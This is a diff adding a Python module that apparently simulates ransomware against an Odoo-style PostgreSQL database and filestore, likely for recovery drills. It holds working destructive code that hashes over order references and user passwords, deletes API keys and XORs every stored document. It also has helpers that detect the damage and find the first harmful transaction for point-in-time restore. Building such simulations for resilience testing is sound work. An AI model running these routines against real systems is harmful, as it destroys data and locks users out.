@@ -1,0 +1,72 @@
+"""What an extortionist does once he has the application's database role and its host.
+
+Rows first: references of orders become unreadable and every log-in is replaced, in committed
+transactions that replicate. Then each document on disk is overwritten. The platform goes on
+running; it just cannot be used any more. Platform-independent: a DSN and a folder.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from pathlib import Path
+
+import psycopg
+
+MARK = "locked:"
+_LOCK_ORDERS = """
+UPDATE sale_order SET client_order_ref = 'locked:' || md5(coalesce(client_order_ref, ''))
+WHERE client_order_ref NOT LIKE 'locked:%' OR client_order_ref IS NULL"""
+_LOCK_LOG_INS = """
+UPDATE res_users SET password = 'locked:' || md5(coalesce(password, '')) WHERE id > 1"""
+_DROP_KEYS = "DELETE FROM res_users_apikeys"
+_IS_LOCKED = """
+SELECT EXISTS (SELECT FROM sale_order WHERE client_order_ref LIKE 'locked:%')
+    OR EXISTS (SELECT FROM res_users WHERE password LIKE 'locked:%')"""
+_FIRST = """
+SELECT xid::text, to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') FROM (
+    SELECT xmin AS xid, pg_xact_commit_timestamp(xmin) AS at FROM sale_order
+    WHERE client_order_ref LIKE 'locked:%'
+    UNION ALL
+    SELECT xmin, pg_xact_commit_timestamp(xmin) FROM res_users WHERE password LIKE 'locked:%'
+) AS damaged WHERE at IS NOT NULL ORDER BY at, xid::text::bigint LIMIT 1"""
+
+
+@dataclass(frozen=True, slots=True)
+class FirstHarm:
+    """The attacker's first transaction: the database was good until just before it."""
+
+    xid: int
+    committed_utc: str
+
+
+def encrypt_rows(dsn: str) -> tuple[int, int]:
+    """Orders and log-ins that are unreadable now. Each statement is a transaction of its own."""
+    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
+        orders = database.execute(_LOCK_ORDERS).rowcount
+        log_ins = database.execute(_LOCK_LOG_INS).rowcount
+        database.execute(_DROP_KEYS)
+    return orders, log_ins
+
+
+def encrypt_documents(filestore: Path) -> int:
+    """Every file overwritten in place, its length kept. Returns how many."""
+    changed = 0
+    for file in sorted(filestore.glob("??/*")):
+        if file.is_file() and not file.name.startswith("."):
+            file.write_bytes(bytes(b ^ 0x5A for b in file.read_bytes()) or b"\x5a")
+            changed += 1
+    return changed
+
+
+def is_locked(dsn: str) -> bool:
+    """Whether the extortionist's mark is in the database. Raises psycopg.Error."""
+    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
+        row = database.execute(_IS_LOCKED).fetchone()
+    return bool(row and row[0])
+
+
+def first_harm(dsn: str) -> FirstHarm | None:
+    """By commit timestamps; None where nothing is damaged. Raises psycopg.Error."""
+    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
+        row = database.execute(_FIRST).fetchone()
+    return FirstHarm(int(row[0]), str(row[1])) if row else None
